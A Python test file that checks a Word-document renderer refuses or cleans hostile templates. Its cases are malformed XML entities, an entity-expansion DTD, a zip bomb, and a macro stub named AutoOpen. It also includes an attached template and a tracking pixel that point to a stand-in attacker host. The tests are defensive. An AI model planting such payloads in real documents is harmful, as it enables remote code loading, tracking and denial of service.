"""Hostile Word templates: broken or entity-laden XML refused, links to elsewhere dropped, bombs refused early."""

from __future__ import annotations

import tracemalloc
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import pytest

from briefing.assemble import Outline
from briefing.render.docx import TemplateError, render_docx
from briefing.render.docx.template_safety import MAX_TEMPLATE_BYTES, MAX_TEMPLATE_PARTS
from tests.support.reading import validate_ooxml

MakeOutline = Callable[..., Outline]
ReadDocx = Callable[[bytes], Any]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.fixture
def template(tmp_path: Path) -> Path:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "ACME MINISTRY"
    path = tmp_path / "ministry.docx"
    document.save(str(path))
    return path


def rewritten(template: Path, target: Path, changes: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None) -> Path:  # fmt: skip
    """A copy of ``template`` with some parts changed and others added."""
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in source.namelist():
            blob = source.read(name)
            copy.writestr(name, changes[name](blob) if name in changes else blob)
        for name, blob in (extra or {}).items():
            copy.writestr(name, blob)
    return target


def refused(outline: Outline, template: Path, folder: Path, *fragments: str) -> None:
    folder.mkdir(exist_ok=True)
    with pytest.raises(TemplateError) as raised:
        render_docx(outline, folder / "pack.docx", template=template)
    for fragment in fragments:
        assert fragment in raised.value.message("en")
    assert raised.value.message("fr") != raised.value.message("en")
    assert list(folder.iterdir()) == []


def test_an_undeclared_entity_in_a_part_python_docx_does_not_read_is_refused(
    make_outline: MakeOutline, template: Path, tmp_path: Path
) -> None:
    # docProps/app.xml is copied into the pack as it is: a broken part there would make Word refuse the pack
    bad = rewritten(template, tmp_path / "bad.docx", {"docProps/app.xml": lambda b: b.replace(b"</Properties>", b"<Company>&acme;</Company></Properties>")})  # fmt: skip
    refused(make_outline("en"), bad, tmp_path / "out", "docProps/app.xml", "not well-formed", "acme")


def test_a_part_with_entity_declarations_is_refused(
    make_outline: MakeOutline, template: Path, tmp_path: Path
) -> None:
    laughs = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

    def with_dtd(blob: bytes) -> bytes:
        return laughs + blob[blob.index(b"?>") + 2 :].replace(b"</w:styles>", b"<!-- &b; --></w:styles>")

    bad = rewritten(template, tmp_path / "bad.docx", {"word/styles.xml": with_dtd})
    refused(make_outline("en"), bad, tmp_path / "out", "word/styles.xml", "DTD")


def test_external_relationships_are_dropped_and_the_pack_validates(
    make_outline: MakeOutline, read_docx: ReadDocx, template: Path, tmp_path: Path, ooxml_validator: str
) -> None:
    attached = (
        f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" '
        'Target="http://attacker.example/ministry.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    picture = (
        b'<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        b'<wp:extent cx="9525" cy="9525"/><wp:docPr id="77" name="tracker"/>'
        b'<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
        b'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic '
        b'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" '
        b'name="tracker.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdImg"/><a:stretch>'
        b'<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" '
        b'cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
        b"</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    image = (
        f'<Relationship Id="rIdImg" Type="{R}/image" Target="http://attacker.example/pixel.png" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    with zipfile.ZipFile(template) as source:
        names = source.namelist()
    header = next(n for n in names if n.startswith("word/header") and n.endswith(".xml"))
    header_rels = f"word/_rels/{header.split('/')[-1]}.rels"
    changes: dict[str, Callable[[bytes], bytes]] = {
        "word/settings.xml": lambda b: b.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom', 1),
        header: lambda b: b.replace(b"</w:p>", picture, 1),
    }
    extra: dict[str, bytes] = {}
    if "word/_rels/settings.xml.rels" in names:
        changes["word/_rels/settings.xml.rels"] = lambda b: b.replace(b"</Relationships>", attached)
    else:
        extra["word/_rels/settings.xml.rels"] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships">'
        ) + attached
    if header_rels in names:
        changes[header_rels] = lambda b: b.replace(b"</Relationships>", image)
    else:
        extra[header_rels] = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            b'openxmlformats.org/package/2006/relationships">'
        ) + image
    linked = rewritten(template, tmp_path / "linked.docx", changes, extra)
    with zipfile.ZipFile(linked) as archive:  # the template really holds both links
        everything = b"".join(archive.read(n) for n in archive.namelist())
        assert everything.count(b'TargetMode="External"') == 2 and b"attachedTemplate r:id" in everything

    target = tmp_path / "pack.docx"
    warnings = render_docx(make_outline("en"), target, template=linked)
    # the template's own warnings come first, then those about the styles it lacks
    assert warnings[0].render("en") == (
        "The template's links to files elsewhere (an attached template, linked pictures) were left out."
    )
    assert warnings[0].render("fr") == (
        "Les liens du modèle vers des fichiers situés ailleurs (modèle attaché, images liées) ont été écartés."
    )
    assert not any("macros" in warning.render("en") for warning in warnings)
    pack = read_docx(target.read_bytes())
    for name, blob in pack.parts.items():
        assert b"attacker.example" not in blob, name
        assert b"TargetMode" not in blob, name
        assert b"attachedTemplate" not in blob, name
    assert "ACME MINISTRY" in pack.text(pack.header_footer("header", "default"))
    report = validate_ooxml(ooxml_validator, target)
    assert report["ok"], report["errors"][:5]


def test_a_template_that_unpacks_to_too_much_is_refused_before_parsing(
    make_outline: MakeOutline, template: Path, tmp_path: Path
) -> None:
    bomb = tmp_path / "bomb.docx"
    zeros = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as copy:
        for name in source.namelist():
            copy.writestr(name, source.read(name))
        with copy.open("word/media/huge.bin", "w") as part:  # streamed: never all in memory
            for _ in range(MAX_TEMPLATE_BYTES // len(zeros) + 1):
                part.write(zeros)
    assert bomb.stat().st_size < 2 * 1024 * 1024
    tracemalloc.start()
    refused(make_outline("en"), bomb, tmp_path / "out", "MB once unpacked")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 32 * 1024 * 1024, peak  # refused from the zip directory, not by unpacking it


def test_a_template_with_too_many_parts_is_refused(
    make_outline: MakeOutline, template: Path, tmp_path: Path
) -> None:
    many = rewritten(
        template,
        tmp_path / "many.docx",
        {},
        {f"customXml/item{i}.bin": b"x" for i in range(MAX_TEMPLATE_PARTS)},
    )
    refused(make_outline("en"), many, tmp_path / "out", "parts, more than")


def test_macros_are_left_out_with_a_warning_in_both_languages(
    make_outline: MakeOutline, read_docx: ReadDocx, template: Path, tmp_path: Path, ooxml_validator: str
) -> None:
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    macro_type = "application/vnd.ms-office.vbaProject"
    with_macros = rewritten(
        template,
        tmp_path / "ministry.docm",
        {
            "word/_rels/document.xml.rels": lambda b: b.replace(
                b"</Relationships>",
                f'<Relationship Id="rIdVba" Type="{vba}" Target="vbaProject.bin"/></Relationships>'.encode(),
            ),
            "[Content_Types].xml": lambda b: b.replace(
                b"</Types>", f'<Default Extension="bin" ContentType="{macro_type}"/></Types>'.encode()
            ),
        },
        {"word/vbaProject.bin": b'Attribute VB_Name = "AutoOpen"' + bytes(64)},
    )
    target = tmp_path / "pack.docx"
    warnings = render_docx(make_outline("en"), target, template=with_macros)
    assert warnings[0].render("en") == "The template's macros were left out: a pack never carries macros."
    assert (
        warnings[0].render("fr")
        == "Les macros du modèle ont été écartées\u00a0: un dossier n’en contient jamais."
    )
    assert not any("links" in warning.render("en") for warning in warnings)
    with zipfile.ZipFile(target) as archive:
        assert not [name for name in archive.namelist() if "vba" in name.lower()]
        assert b"vbaProject" not in b"".join(archive.read(name) for name in archive.namelist())
    assert validate_ooxml(ooxml_validator, target)["ok"]
